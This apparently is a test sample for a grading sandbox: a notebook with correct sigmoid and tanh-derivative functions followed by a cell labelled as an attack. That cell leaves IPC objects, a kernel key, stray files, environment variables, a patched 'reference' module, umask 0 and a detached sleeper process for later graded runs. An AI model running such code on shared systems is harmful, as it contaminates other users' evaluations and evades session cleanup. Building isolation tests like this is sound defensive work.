# Correct activations, and a cell that tries to leave something for whoever is
# graded next on the same machine: SysV IPC objects, a kernel key, files in
# every writable place, environment, patched modules, a process.

# %%
import numpy as np


def sigmoid(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_derivative(x):
    s = sigmoid(x)
    return s * (1.0 - s)


def tanh_derivative(x):
    return 1.0 - np.tanh(x) ** 2

# %%
# attack: stash things
import builtins
import ctypes
import json
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
shmid = libc.shmget(0x5EED, 4096, 0o1666)  # IPC_CREAT | 0666, never removed
if shmid >= 0:
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(shmid, None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(address, b"hostile-stash", 13)
libc.msgget(0x5EEE, 0o1666)
libc.semget(0x5EEF, 1, 0o1666)
payload = b"hostile-stash"
libc.syscall(248, b"user", b"hostile-stash", payload, len(payload), ctypes.c_int(-4))  # add_key to @u (x86_64)
for folder in ("/tmp", "/var/tmp", "/dev/shm", ".", os.path.expanduser("~")):
    try:
        with open(os.path.join(folder, "hostile-stash"), "w") as f:
            f.write("hostile-stash")
    except OSError:
        pass
os.environ["HOSTILE_STASH"] = "1"
os.putenv("HOSTILE_STASH_PUT", "1")
sys.modules["reference"] = sys.modules["json"]
np.hostile_stash = True
json.hostile_stash = True
builtins.hostile_stash = True
os.umask(0)
if os.fork() == 0:
    os.setsid()
    os.execv("/bin/sleep", ["hostile-stash-sleeper", "600"])
